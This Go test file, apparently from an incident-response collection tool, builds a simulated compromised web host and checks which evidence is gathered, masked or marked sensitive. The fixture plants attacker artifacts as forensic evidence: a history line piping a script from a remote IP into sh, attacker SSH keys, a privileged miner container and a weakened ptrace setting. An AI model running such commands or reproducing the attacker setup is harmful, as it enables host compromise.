//go:build linux

package collect

import (
	"bufio"
	"bytes"
	"crypto/md5"
	"encoding/hex"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/custos-ir/custos/custody"
	"github.com/custos-ir/custos/profiles"
)

// webHost builds a Linux web host below a temporary root: accounts whose
// homes are not in /home, sshd taking keys from /etc/ssh/keys, and nginx,
// Apache, PHP-FPM, php.ini and varnishncsa writing logs outside /var/log.
func webHost(t *testing.T) string {
	t.Helper()
	root := t.TempDir()
	put := func(rel, content string) {
		t.Helper()
		p := root + rel
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	put("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"+
		"mysql:x:106:112:MySQL:/var/lib/mysql:/bin/false\nmagento:x:1002:1002::/opt/magento:/bin/bash\nnobody:x:65534:65534::/nonexistent:/usr/sbin/nologin\nnot an account line\n")
	put("/etc/shadow", "root:$6$salt$0123456789abcdefHASHROOT:19700:0:99999:7:::\nmagento:$y$j9T$salt$HASHMAGENTO:19701:0:99999:7:::\nwww-data:*:19700:0:99999:7:::\n")
	put("/etc/gshadow", "sudo:!$6$x$HASHGROUP::magento\n")
	put("/etc/ssh/sshd_config", "Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin no\n")
	put("/etc/ssh/sshd_config.d/keys.conf", "AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%u\n")
	put("/etc/ssh/keys/magento", "ssh-ed25519 AAAAC3Nza attacker@outside-home\n")
	put("/etc/ssh/ssh_host_ed25519_key", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn\n-----END OPENSSH PRIVATE KEY-----\n")
	put("/etc/sysctl.d/99-evil.conf", "kernel.yama.ptrace_scope = 0\n")
	put("/etc/nginx/.htpasswd", "admin:$apr1$x$y\n")
	put("/var/www/.ssh/authorized_keys", "ssh-ed25519 AAAAC3Nza attacker@www-data\n")
	put("/var/www/.ssh/id_ed25519", "-----BEGIN OPENSSH PRIVATE KEY-----\n")
	put("/var/www/.bash_history", "curl -s http://203.0.113.7/x.sh | sh\n")
	put("/opt/magento/.mysql_history", "select * from admin_user;\n")
	put("/opt/magento/.viminfo", "# viminfo\n")
	put("/opt/magento/.my.cnf", "[client]\npassword=hunter2\n")
	put("/var/lib/mysql/.bash_history", "id\n")

	put("/etc/nginx/nginx.conf", "user www-data;\nhttp {\n  error_log /srv/shop/logs/nginx-error.log warn;\n  include /etc/nginx/conf.d/*.conf;\n  include /etc/nginx/sites-enabled/*;\n}\n")
	put("/etc/nginx/conf.d/broken.conf", "server {\n  listen 80\n")
	put("/etc/nginx/sites-available/shop", "server {\n  server_name shop.example;\n  root /srv/shop/current/pub;\n  access_log /srv/shop/logs/access.log main;\n  access_log /srv/shop/logs/$host.log;\n  access_log syslog:server=unix:/dev/log;\n}\n")
	os.MkdirAll(root+"/etc/nginx/sites-enabled", 0o755)
	if err := os.Symlink("../sites-available/shop", root+"/etc/nginx/sites-enabled/shop"); err != nil {
		t.Fatal(err)
	}
	put("/srv/shop/logs/access.log", "203.0.113.7 - - [20/Nov/2026] \"POST /checkout\" 200\n")
	put("/srv/shop/logs/access.log.1", "rotated\n")
	put("/srv/shop/logs/access.log.2.gz", "gz")
	put("/srv/shop/logs/shop.example.log", "per-host\n")
	put("/srv/shop/logs/nginx-error.log", "error\n")
	put("/srv/shop/current/app/etc/env.php", "<?php return [];\n")
	put("/srv/shop/current/pub/index.php", "<?php\n")

	put("/etc/apache2/apache2.conf", "ServerRoot \"/etc/apache2\"\nErrorLog ${APACHE_LOG_DIR}/error.log\nIncludeOptional sites-enabled/*.conf\nInclude ports.conf\n")
	put("/etc/apache2/envvars", "export APACHE_LOG_DIR=/opt/apache-logs$SUFFIX\nexport APACHE_RUN_USER=www-data\n")
	put("/etc/apache2/ports.conf", "Listen 80\n")
	put("/etc/apache2/sites-enabled/blog.conf", "<VirtualHost *:80>\n  DocumentRoot /var/www/blog\n  CustomLog /opt/blog-logs/access.log combined\n"+
		"  CustomLog \"|/usr/bin/rotatelogs /opt/blog-logs/rot.%Y%m%d 86400\" \\\n    combined\n</VirtualHost>\n")
	put("/opt/apache-logs/error.log", "apache error\n")
	put("/opt/blog-logs/access.log", "blog\n")
	put("/opt/blog-logs/rot.20261120", "rotatelogs\n")
	put("/var/www/blog/index.php", "<?php\n")

	put("/etc/php/8.2/fpm/php-fpm.conf", "[global]\nerror_log = /opt/php-logs/fpm.log\ninclude=/etc/php/8.2/fpm/pool.d/*.conf\n")
	put("/etc/php/8.2/fpm/pool.d/www.conf", "[www]\nslowlog = /home/magento/logs/php-slow.log\nphp_admin_value[error_log] = /opt/php-logs/$pool-error.log\n")
	put("/etc/php/8.2/fpm/php.ini", "[PHP]\nerror_log = \"/opt/php-logs/php_errors.log\" ; errors\n")
	put("/opt/php-logs/fpm.log", "fpm\n")
	put("/opt/php-logs/www-error.log", "pool error\n")
	put("/opt/php-logs/php_errors.log", "PHP Fatal error\n")
	put("/home/magento/logs/php-slow.log", "slow\n")

	put("/etc/varnish/secret", "0123456789abcdef\n")
	put("/lib/systemd/system/varnishncsa.service", "[Service]\nExecStart=/usr/bin/varnishncsa -a -w /opt/varnish-logs/ncsa.log -D\n")
	put("/etc/default/varnish", "DAEMON_OPTS=\"-a :6081 -n shop\"\n")
	put("/var/lib/varnish/shop/_.vsm_mgt/_.index", "vsm index\n")
	put("/var/lib/varnish/shop/_.vsm_child/_.Log.1", "recent requests\n")
	put("/opt/varnish-logs/ncsa.log", "ncsa\n")
	put("/var/www/vhosts/example.com/logs/access_log", "plesk\n")
	// A dpkg database: sshd modified after install, PAM untouched, a doc
	// file outside the default scope removed.
	md5hex := func(s string) string { h := md5.Sum([]byte(s)); return hex.EncodeToString(h[:]) }
	put("/var/lib/dpkg/status", "Package: openssh-server\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1:9.2p1-2\n"+
		"Conffiles:\n /etc/ssh/moduli "+md5hex("moduli\n")+"\nDescription: ssh\n\n"+
		"Package: libpam-modules\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1.5.2-6\n\n"+
		"garbage stanza\n\nPackage: removed-one\nStatus: deinstall ok config-files\nVersion: 1\n")
	put("/var/lib/dpkg/info/openssh-server.md5sums", md5hex("sshd as shipped\n")+"  usr/sbin/sshd\n"+md5hex("doc\n")+"  usr/share/doc/openssh-server/README\n")
	put("/var/lib/dpkg/info/libpam-modules:amd64.md5sums", md5hex("pam_unix\n")+"  lib/x86_64-linux-gnu/security/pam_unix.so\n")
	put("/usr/sbin/sshd", "sshd with a backdoor\n")
	put("/lib/x86_64-linux-gnu/security/pam_unix.so", "pam_unix\n")
	put("/etc/ssh/moduli", "moduli\n")
	put("/var/log/syslog", "syslog\n")
	put("/run/log/journal/abc/system.journal", "journal")
	// Containers: Docker's and Podman's own records of each container.
	put("/etc/docker/daemon.json", `{"log-driver":"json-file"}`+"\n")
	put("/var/lib/docker/containers/c0ffee/config.v2.json", `{"Config":{"Image":"evil/miner","Cmd":["/xmrig"]}}`)
	put("/var/lib/docker/containers/c0ffee/hostconfig.json", `{"Binds":["/:/host"],"Privileged":true}`)
	put("/var/lib/containers/storage/overlay-containers/beef/userdata/config.json", `{"process":{"args":["sh"]}}`)
	return root
}

// linux-base on the web host: what each artifact holds.
func TestLinuxBaseOnWebHost(t *testing.T) {
	root := webHost(t)
	p, err := profiles.Load("linux-base")
	if err != nil {
		t.Fatal(err)
	}
	steps, err := Plan(p, PlanOptions{GOOS: "linux", Root: root, Live: func(string) (StreamFunc, bool) { return nil, false }})
	if err != nil {
		t.Fatal(err)
	}
	var plan []Planned
	for _, s := range steps {
		if s.Source != nil && s.Desc.Kind != "live" {
			plan = append(plan, s)
		}
	}
	pl, st, id := newPipeline(t)
	m := runCollection(t, pl, plan)
	arts := map[string]custody.Artifact{}
	for _, a := range m.Artifacts {
		arts[a.Name] = a
	}
	stored := func(name string) (map[string]custody.File, map[string][]byte) {
		a := arts[name]
		recs := map[string]custody.File{}
		for _, f := range a.Files {
			recs[strings.TrimPrefix(f.Path, root)] = f
		}
		content := map[string][]byte{}
		if a.Format == "tar" {
			for n, b := range tarFiles(t, decrypt(t, st, m.Storage.Prefix+a.Key, id)) {
				content[strings.TrimPrefix("/"+n, root)] = b
			}
		}
		return recs, content
	}
	must := func(art string, paths ...string) {
		t.Helper()
		recs, content := stored(art)
		for _, p := range paths {
			if _, ok := content[p]; !ok || !recs[p].Stored {
				t.Errorf("%s lacks %s (records: %d, warnings %v, errors %v)", art, p, len(recs), arts[art].Warnings, arts[art].Errors)
			}
		}
	}

	// Homes from /etc/passwd, with the key file sshd's drop-in names.
	must("user-files", "/var/www/.ssh/authorized_keys", "/var/www/.bash_history", "/opt/magento/.mysql_history",
		"/opt/magento/.viminfo", "/etc/ssh/keys/magento", "/var/lib/mysql/.bash_history")
	recs, content := stored("user-files")
	if _, ok := content["/var/www/.ssh/id_ed25519"]; ok {
		t.Error("a user's private key was taken")
	}
	if !recs["/opt/magento/.my.cnf"].Sensitive {
		t.Errorf(".my.cnf not marked sensitive: %+v", recs["/opt/magento/.my.cnf"])
	}
	if w := strings.Join(arts["user-files"].Warnings, "\n"); !strings.Contains(w, "1 skipped") || !strings.Contains(w, "www-data lives in /var/www") {
		t.Errorf("user-files warnings: %s", w)
	}

	// Logs where the web servers' configuration puts them.
	must("web-logs", "/srv/shop/logs/access.log", "/srv/shop/logs/access.log.1", "/srv/shop/logs/access.log.2.gz",
		"/srv/shop/logs/shop.example.log", "/srv/shop/logs/nginx-error.log", "/opt/apache-logs/error.log",
		"/opt/blog-logs/access.log", "/opt/blog-logs/rot.20261120", "/opt/php-logs/fpm.log", "/opt/php-logs/www-error.log",
		"/opt/php-logs/php_errors.log", "/home/magento/logs/php-slow.log", "/var/www/vhosts/example.com/logs/access_log",
		"/etc/nginx/sites-available/shop")
	if w := strings.Join(arts["web-logs"].Warnings, "\n"); !strings.Contains(w, "broken.conf") || arts["web-logs"].Status != "ok" {
		t.Errorf("the broken nginx file is not one warning: %s (status %s, errors %v)", w, arts["web-logs"].Status, arts["web-logs"].Errors)
	}
	must("varnish", "/var/lib/varnish/shop/_.vsm_mgt/_.index", "/var/lib/varnish/shop/_.vsm_child/_.Log.1", "/opt/varnish-logs/ncsa.log")
	must("logs", "/var/log/syslog", "/run/log/journal/abc/system.journal")
	must("containers", "/etc/docker/daemon.json", "/var/lib/docker/containers/c0ffee/config.v2.json",
		"/var/lib/docker/containers/c0ffee/hostconfig.json", "/var/lib/containers/storage/overlay-containers/beef/userdata/config.json")

	// All of /etc, with secrets marked, and shadow masked.
	must("etc", "/etc/sysctl.d/99-evil.conf", "/etc/passwd", "/etc/ssh/sshd_config")
	recs, content = stored("etc")
	for _, p := range []string{"/etc/ssh/ssh_host_ed25519_key", "/etc/nginx/.htpasswd", "/etc/varnish/secret"} {
		if !recs[p].Sensitive {
			t.Errorf("%s not marked sensitive", p)
		}
	}
	if recs["/etc/passwd"].Sensitive {
		t.Error("/etc/passwd marked sensitive")
	}
	if _, ok := content["/etc/shadow"]; ok {
		t.Error("/etc/shadow stored unmasked in etc")
	}
	recs, content = stored("shadow")
	sh := string(content["/etc/shadow"])
	if strings.Contains(sh, "HASHROOT") || strings.Contains(sh, "HASHMAGENTO") || !strings.Contains(sh, "root:MASKED;alg=sha512crypt;len=") ||
		!strings.Contains(sh, ":19700:0:99999:7:::") || strings.Contains(string(content["/etc/gshadow"]), "HASHGROUP") {
		t.Errorf("shadow stored as\n%s\ngshadow %s", sh, content["/etc/gshadow"])
	}
	if r := recs["/etc/shadow"]; len(r.Redacted) == 0 || r.StoredSHA256 == "" {
		t.Errorf("shadow record %+v", r)
	}

	// Packages: the modified sshd is listed as changed, PAM as ok, the
	// conffile checked, the doc file out of the default scope.
	pk := arts["packages"]
	lines := map[string]map[string]any{}
	sc := bufio.NewScanner(bytes.NewReader(decrypt(t, st, m.Storage.Prefix+pk.Key, id)))
	for sc.Scan() {
		var v map[string]any
		if err := json.Unmarshal(sc.Bytes(), &v); err != nil {
			t.Fatal(err)
		}
		k, _ := v["path"].(string)
		if k == "" {
			k, _ = v["package"].(string)
		}
		lines[k] = v
	}
	if lines["/usr/sbin/sshd"]["status"] != "changed" || lines["/lib/x86_64-linux-gnu/security/pam_unix.so"]["status"] != "ok" ||
		lines["/etc/ssh/moduli"]["kind"] != "conffile" || lines["/etc/ssh/moduli"]["status"] != "ok" || lines["openssh-server"]["version"] != "1:9.2p1-2" {
		t.Errorf("packages: %v", lines)
	}
	if _, ok := lines["/usr/share/doc/openssh-server/README"]; ok {
		t.Error("a doc file was checked by default")
	}
	if _, ok := lines["removed-one"]; ok {
		t.Error("a removed package is listed as installed")
	}
	if w := strings.Join(pk.Warnings, "\n"); !strings.Contains(w, "CHANGED /usr/sbin/sshd (dpkg openssh-server)") || !strings.Contains(w, "1 stanzas") || pk.Status != "ok" {
		t.Errorf("packages warnings: %s (%s)", w, pk.Status)
	}

	// The timeline holds the web roots, and the Magento root above pub/.
	body := string(decrypt(t, st, m.Storage.Prefix+arts["timeline"].Key, id))
	for _, want := range []string{root + "/srv/shop/current/app/etc/env.php|", root + "/var/www/blog/index.php|"} {
		if !strings.Contains(body, want) {
			t.Errorf("timeline lacks %s", want)
		}
	}
}

// A damaged rpm database is one error in the artifact; what dpkg lists is
// still there, and the good rpm database is read natively.
func TestPackagesDamagedDatabase(t *testing.T) {
	good, err := os.ReadFile("pkgdb/testdata/rpmdb.sqlite")
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name string
		db   []byte
		ok   bool
	}{{"good", good, true}, {"damaged", append(append([]byte(nil), good[:4096]...), bytes.Repeat([]byte{0xff}, 8192)...), false}} {
		root := t.TempDir()
		os.MkdirAll(root+"/var/lib/rpm", 0o755)
		os.WriteFile(root+"/var/lib/rpm/rpmdb.sqlite", tc.db, 0o644)
		os.MkdirAll(root+"/usr/sbin", 0o755)
		os.WriteFile(root+"/usr/sbin/sshd", []byte("sshd as shipped\n"), 0o755)
		pl, st, id := newPipeline(t)
		src := &Packages{Name: "packages", Root: root}
		m := runCollection(t, pl, []Planned{{Source: src, Desc: src.Describe()}})
		a := m.Artifacts[0]
		out := string(decrypt(t, st, m.Storage.Prefix+a.Key, id))
		if tc.ok {
			if a.Status != "ok" || !strings.Contains(out, `"package":"openssh-server","version":"8.7p1-38.el9"`) ||
				!strings.Contains(out, `"path":"/usr/sbin/sshd","algo":"sha256"`) || !strings.Contains(out, `"status":"ok"`) ||
				!strings.Contains(out, `"path":"/usr/lib64/security/pam_unix.so"`) {
				t.Errorf("%s: %s %v\n%s", tc.name, a.Status, a.Errors, out)
			}
			continue
		}
		if a.Status != "partial" || len(a.Errors) != 1 || !strings.Contains(a.Errors[0], "rpmdb.sqlite") {
			t.Errorf("%s: status %s, errors %v", tc.name, a.Status, a.Errors)
		}
	}
}
